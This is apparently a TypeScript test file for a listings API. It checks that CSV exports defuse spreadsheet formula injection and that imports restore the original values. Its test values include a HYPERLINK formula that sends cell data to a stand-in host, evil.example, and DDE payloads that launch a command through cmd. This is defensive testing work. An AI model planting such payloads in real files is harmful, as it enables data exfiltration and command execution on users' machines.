import fc from 'fast-check'
import t, { type Test } from 'tap'
import { eq } from 'drizzle-orm'
import { demands, listings } from '../../src/db/schema/index.ts'
import { csvLine, restoreFormula } from '../../src/lib/csv.ts'
import { parseCsv } from '../../src/modules/imports/imports.csv.ts'
import { buildTestApp } from '../helpers/app.ts'
import { fileOpenDemand } from '../helpers/demands.ts'
import { createMember } from '../helpers/factories.ts'
import { createListingViaApi } from '../helpers/listings.ts'

// Formula injection (src/lib/csv.ts): every CSV the API writes puts an apostrophe before a cell a
// spreadsheet would run as a formula, and the import takes exactly that apostrophe off again, so an
// export still imports back as it was — genuine minus signs and apostrophes included.

const { app, db } = await buildTestApp(t)
type Auth = { authorization: string }

const formula = '=HYPERLINK("http://evil.example/?d="&A1,"Xem chi tiết")'
const owner = await createMember(db, { kind: 'research_institute', name: "=cmd|' /C calc'!A0" })
const seeker = await createMember(db, { name: '@SUM(1+1)*cmd|" /C calc"!A0' })

const cellsOf = (text: string) => [...parseCsv(text)].map((record) => record.cells)
/** The CSV as objects by header, the cells exactly as a spreadsheet would get them. */
function rawObjects(text: string): Array<Record<string, string>> {
  const [header, ...rows] = cellsOf(text)
  return rows.map((cells) => Object.fromEntries(header!.map((name, index) => [name, cells[index] ?? ''])))
}
/** No cell of the file starts with what a spreadsheet would run. */
function assertNoFormula(t: Test, text: string) {
  const dangerous = cellsOf(text)
    .flat()
    .filter((cell) => /^[=+\-@\t\r]/.test(cell))
  t.same(dangerous, [], 'no cell starts with = + - @ tab or CR')
}

async function importFile(auth: Auth, kind: string, payload: string) {
  const response = await app.inject({ method: 'POST', url: `/v1/imports?kind=${kind}`, headers: { ...auth, 'content-type': 'text/csv' }, payload })
  if (response.statusCode !== 202) throw new Error(`upload: ${response.statusCode} ${response.body}`)
  await app.jobs.runPending()
  return (await app.inject({ method: 'GET', url: `/v1/imports/${(response.json() as { id: string }).id}`, headers: auth })).json() as {
    status: string
    rowsCreated: number
    rowsFailed: number
    errors: unknown[]
  }
}

const hostile = {
  titleVi: formula,
  titleEn: '-5 °C cold storage for dragon fruit',
  descriptionVi: '@SUM(A1:A9) — mô tả bắt đầu bằng @',
  descriptionEn: "'quoted' on purpose, as written",
  keywords: ['+84 912 345 678', "'apostrophe", '=1+1'],
}

t.test('listings: hostile cells are neutralised in the export and restored by the import', async (t) => {
  const listing = await createListingViaApi(app, owner.auth, { ...hostile, contacts: [{ name: '-Nguyễn Văn A', email: 'a@example.vn' }] })
  t.equal((await app.inject({ method: 'POST', url: `/v1/listings/${listing.id}/publish`, headers: owner.auth })).statusCode, 200)

  const file = (await app.inject({ method: 'GET', url: `/v1/listings/export?owner=${owner.organization.id}`, headers: owner.auth })).body
  assertNoFormula(t, file)
  const [row] = rawObjects(file)
  t.match(row, {
    titleVi: `'${formula}`,
    titleEn: "'-5 °C cold storage for dragon fruit",
    descriptionVi: "'@SUM(A1:A9) — mô tả bắt đầu bằng @",
    descriptionEn: "''quoted' on purpose, as written",
    keywords: "'+84 912 345 678; 'apostrophe; =1+1",
    owner: "'=cmd|' /C calc'!A0",
  })
  t.ok(file.includes(`"'${formula.replaceAll('"', '""')}"`), 'the apostrophe goes inside the quotes, where a spreadsheet sees it')

  // The anonymous export (no key) is the one anyone can fetch: the same rule.
  assertNoFormula(t, (await app.inject({ method: 'GET', url: '/v1/listings/export' })).body)

  const target = await createMember(db)
  t.match(await importFile(target.auth, 'listings', file), { status: 'completed', rowsCreated: 1, rowsFailed: 0 })
  const [copy] = await db.select().from(listings).where(eq(listings.ownerId, target.organization.id))
  t.match(copy, { ...hostile, contacts: [{ name: '-Nguyễn Văn A', email: 'a@example.vn' }] }, 'every value as it was: nothing added, nothing lost')
})

t.test('demands: the same rule both ways', async (t) => {
  const demand = await fileOpenDemand(app, seeker.auth, {
    titleVi: '+Cần công nghệ sấy',
    problemVi: '-20% sản lượng mất sau thu hoạch',
    keywords: ['@sấy', 'lúa'],
  })
  const file = (await app.inject({ method: 'GET', url: `/v1/demands/export?owner=${seeker.organization.id}` })).body
  assertNoFormula(t, file)
  t.match(rawObjects(file)[0], {
    id: demand.id,
    titleVi: "'+Cần công nghệ sấy",
    problemVi: "'-20% sản lượng mất sau thu hoạch",
    keywords: "'@sấy; lúa",
    owner: `'@SUM(1+1)*cmd|" /C calc"!A0`,
  })

  const target = await createMember(db)
  t.match(await importFile(target.auth, 'demands', file), { status: 'completed', rowsCreated: 1, rowsFailed: 0 })
  const [copy] = await db.select().from(demands).where(eq(demands.ownerId, target.organization.id))
  t.match(copy, { titleVi: '+Cần công nghệ sấy', problemVi: '-20% sản lượng mất sau thu hoạch', keywords: ['@sấy', 'lúa'] })
})

t.test("the activity report's CSV neutralises organisation names", async (t) => {
  const response = await app.inject({ method: 'GET', url: '/v1/reports/activity?groupBy=organization&period=all&format=csv' })
  t.equal(response.statusCode, 200)
  assertNoFormula(t, response.body)
  const labels = rawObjects(response.body).map((row) => row['Nhóm'])
  t.ok(labels.includes("'=cmd|' /C calc'!A0"), 'the listing owner')
  t.ok(labels.includes(`'@SUM(1+1)*cmd|" /C calc"!A0`), 'the demand owner')
})

t.test('a hand-made file: an apostrophe is taken off only before a formula character', async (t) => {
  const target = await createMember(db, { kind: 'research_institute' })
  const file = "titleVi,descriptionVi,kind,externalId\r\n'98 giống lúa,'=không phải công thức,technology,a1\r\n''trích dẫn,mô tả,technology,a2\r\n"
  t.match(await importFile(target.auth, 'listings', file), { status: 'completed', rowsCreated: 2, rowsFailed: 0 })
  const rows = await db
    .select({ externalId: listings.externalId, titleVi: listings.titleVi, descriptionVi: listings.descriptionVi })
    .from(listings)
    .where(eq(listings.ownerId, target.organization.id))
    .orderBy(listings.externalId)
  t.same(rows, [
    { externalId: 'a1', titleVi: "'98 giống lúa", descriptionVi: '=không phải công thức' },
    { externalId: 'a2', titleVi: "'trích dẫn", descriptionVi: 'mô tả' },
  ])
})

t.test('any cell, hostile or not, reads back as written', async (t) => {
  const cell = fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', "'", '"', ',', ';', '\n', 'a', 'đ', ' ') })
  const property = fc.property(fc.array(cell, { minLength: 1, maxLength: 4 }), (cells) => {
    const [read] = cellsOf(csvLine(cells.map(() => 'h')) + csvLine(cells)).slice(1)
    const written = read ?? []
    return written.every((value) => !/^[=+\-@\t\r]/.test(value)) && written.map(restoreFormula).join('\u0000') === cells.join('\u0000')
  })
  t.doesNotThrow(() => fc.assert(property, { numRuns: 500 }))
})
